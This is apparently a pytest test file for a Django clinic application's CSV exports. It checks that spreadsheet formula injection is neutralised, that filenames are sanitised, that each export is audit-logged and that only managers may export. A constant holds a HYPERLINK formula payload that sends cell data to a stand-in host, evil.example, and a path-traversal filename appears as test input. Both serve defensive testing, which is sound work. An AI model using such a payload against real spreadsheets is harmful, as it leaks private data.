import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from appointments.models import Source, Status
from clinic.audit import AccessEvent, Action
from clinic.csvsafe import csv_response, safe_cell
from tests.appointments.factories import AppointmentFactory
from tests.factories import LocationFactory, PatientFactory, RoomFactory

PATIENTS = reverse("patients:export_csv")
APPOINTMENTS = reverse("appointments:export_csv")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Smith", "Smith"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        (None, ""),
        (Decimal("60.00"), "60.00"),
        (3, "3"),
    ],
)
def test_safe_cell_neutralises_only_what_would_start_a_formula(value, cell):
    assert safe_cell(value) == cell


def test_csv_response_neutralises_the_header_too_and_names_the_file_safely():
    response = csv_response('../"evil"\r\n.csv', ["=x"], [["-1"]])

    assert response["Content-Disposition"] == 'attachment; filename="evil-.csv"'
    assert response["Cache-Control"] == "no-store"
    assert read_csv(response) == [["'=x"], ["'-1"]]


# Patients


def test_a_manager_downloads_every_active_patient_without_clinical_content(manager_client):
    PatientFactory(
        first_name="Ann",
        last_name="Able",
        date_of_birth=datetime.date(1980, 5, 1),
        allergy_latex=True,
        other_alerts="Pacemaker",
    )
    PatientFactory(first_name="Bob", last_name="Archived", archived_at=timezone.now())

    rows = read_csv(manager_client.get(PATIENTS))

    header, [ann] = rows[0], rows[1:]
    assert header[:5] == ["ID", "First name", "Last name", "Preferred name", "Date of birth"]
    assert "Other medical alerts" not in header and "Allergy: latex" not in header
    assert "Pacemaker" not in ann
    assert ann[1:5] == ["Ann", "Able", "", "1980-05-01"]


def test_the_patient_export_follows_the_lists_search(manager_client):
    PatientFactory(first_name="Ann", last_name="Able")
    PatientFactory(first_name="Bob", last_name="Baker", archived_at=timezone.now())

    searched = read_csv(manager_client.get(PATIENTS, {"q": "baker", "status": "all"}))
    everyone = read_csv(manager_client.get(PATIENTS, {"status": "all"}))

    assert [row[2] for row in searched[1:]] == ["Baker"]
    assert [row[2] for row in everyone[1:]] == ["Able", "Baker"]


def test_formulas_in_patient_data_are_neutralised(manager_client):
    PatientFactory(first_name=FORMULA, last_name="@Evil", phone="+447911123456", gp_name="-1")

    [row] = read_csv(manager_client.get(PATIENTS))[1:]

    assert row[1] == "'" + FORMULA
    assert row[2] == "'@Evil"
    assert "'+447911123456" in row
    assert "'-1" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_each_patient_export_writes_one_log_entry(manager_client, manager):
    PatientFactory.create_batch(3)

    read_csv(manager_client.get(PATIENTS))

    entry = AccessEvent.objects.get()
    assert (entry.action, entry.object_type, entry.user) == (Action.EXPORT, "patients_csv", manager)


def test_a_search_that_cannot_run_is_not_exported(manager_client):
    response = manager_client.get(PATIENTS, {"q": "x" * 101})

    assert response.status_code == 302 and response.url == reverse("patients:list")
    assert not AccessEvent.objects.filter(action=Action.EXPORT).exists()


# Appointments


@pytest.fixture
def sydney():
    return LocationFactory(name="Sydney", time_zone="Australia/Sydney")


@pytest.fixture
def london():
    return LocationFactory(name="London", time_zone="Europe/London")


def at(year, month, day, hour, minute=0) -> datetime.datetime:
    return datetime.datetime(year, month, day, hour, minute, tzinfo=datetime.UTC)


def test_appointments_are_exported_with_times_in_the_locations_zone(manager_client, sydney):
    # 23:30 UTC on 9 March is 10:30 on 10 March in Sydney (daylight saving, UTC+11).
    appointment = AppointmentFactory(
        location=sydney,
        room=RoomFactory(location=sydney, name="Room 1"),
        patient=PatientFactory(first_name="Ann", last_name="Able"),
        starts_at=at(2026, 3, 9, 23, 30),
        ends_at=at(2026, 3, 10, 0, 15),
        source=Source.ONLINE,
        price=Decimal("80.00"),
        discount_percent=25,
    )

    rows = read_csv(
        manager_client.get(APPOINTMENTS, {"date_from": "2026-03-10", "date_to": "2026-03-10"})
    )

    assert rows == [
        [
            "Date",
            "Start",
            "End",
            "Time zone",
            "Location",
            "Room",
            "Patient",
            "Clinician",
            "Type",
            "Status",
            "Late cancellation",
            "Source",
            "Price",
            "Discount %",
            "Price due",
        ],
        [
            "2026-03-10",
            "10:30",
            "11:15",
            "Australia/Sydney",
            "Sydney",
            "Room 1",
            "Ann Able",
            str(appointment.clinician),
            "Follow-up",
            "Booked",
            "",
            "Online",
            "80.00",
            "25",
            "60.00",
        ],
    ]


def test_the_range_and_location_filter_the_appointments(manager_client, sydney, london):
    inside = AppointmentFactory(location=london, starts_at=at(2026, 6, 1, 8))
    AppointmentFactory(location=london, starts_at=at(2026, 6, 2, 23, 30))  # 3 June in London
    AppointmentFactory(location=sydney, starts_at=at(2026, 6, 1, 8))
    cancelled = AppointmentFactory(
        location=london,
        starts_at=at(2026, 6, 2, 9),
        status=Status.CANCELLED,
        late_cancellation=True,
    )

    rows = read_csv(
        manager_client.get(
            APPOINTMENTS,
            {"date_from": "2026-06-01", "date_to": "2026-06-02", "location": london.pk},
        )
    )[1:]

    assert [(row[0], row[1], row[6]) for row in rows] == [
        ("2026-06-01", "09:00", inside.patient.full_name),
        ("2026-06-02", "10:00", cancelled.patient.full_name),
    ]
    assert rows[1][9:11] == ["Cancelled", "Yes"]


def test_formulas_in_appointment_data_are_neutralised(manager_client, london):
    AppointmentFactory(
        location=london,
        starts_at=at(2026, 6, 1, 8),
        patient=PatientFactory(first_name=FORMULA, last_name="+Evil"),
    )

    [row] = read_csv(
        manager_client.get(APPOINTMENTS, {"date_from": "2026-06-01", "date_to": "2026-06-01"})
    )[1:]

    assert row[6] == "'" + FORMULA + " +Evil"


def test_each_appointment_export_writes_one_log_entry(manager_client, manager, london):
    AppointmentFactory.create_batch(2, location=london, starts_at=at(2026, 6, 1, 8))

    read_csv(manager_client.get(APPOINTMENTS, {"date_from": "2026-06-01", "date_to": "2026-06-30"}))

    entry = AccessEvent.objects.get()
    assert (entry.action, entry.object_type, entry.user) == (
        Action.EXPORT,
        "appointments_csv",
        manager,
    )


def test_without_a_range_the_export_form_is_shown(manager_client, london):
    response = manager_client.get(APPOINTMENTS, {"location": london.pk})

    assert response.status_code == 200
    assert response.context["form"]["location"].value() == london.pk
    assert b"Download CSV" in response.content
    assert not AccessEvent.objects.exists()


@pytest.mark.parametrize(
    ("query", "error"),
    [
        ({"date_from": "2026-06-02", "date_to": "2026-06-01"}, "must end on or after"),
        ({"date_from": "2025-01-01", "date_to": "2026-06-01"}, "at most 366 days"),
        ({"date_from": "soon", "date_to": "2026-06-01"}, "Enter a valid date."),
    ],
)
def test_a_bad_range_gets_a_clear_message_and_no_file(manager_client, query, error):
    response = manager_client.get(APPOINTMENTS, query)

    assert response.status_code == 200
    assert error in response.content.decode()
    assert not AccessEvent.objects.exists()


def test_the_calendar_links_managers_to_the_appointment_export(manager_client, london):
    response = manager_client.get(reverse("appointments:day"), {"location": london.pk})

    assert APPOINTMENTS in response.content.decode()


# Access


@pytest.mark.parametrize("url", [PATIENTS, APPOINTMENTS])
@pytest.mark.parametrize("who", ["front_desk_client", "physio_client", "outsider_client"])
def test_only_practice_managers_may_export(request, who, url):
    client = request.getfixturevalue(who)
    PatientFactory()

    assert client.get(url, {"date_from": "2026-06-01", "date_to": "2026-06-01"}).status_code == 403
    assert not AccessEvent.objects.filter(action=Action.EXPORT).exists()


@pytest.mark.parametrize("url", [PATIENTS, APPOINTMENTS])
def test_anonymous_visitors_are_sent_to_sign_in_instead_of_exporting(client, url):
    response = client.get(url)

    assert response.status_code == 302 and response.url.startswith(reverse("login"))
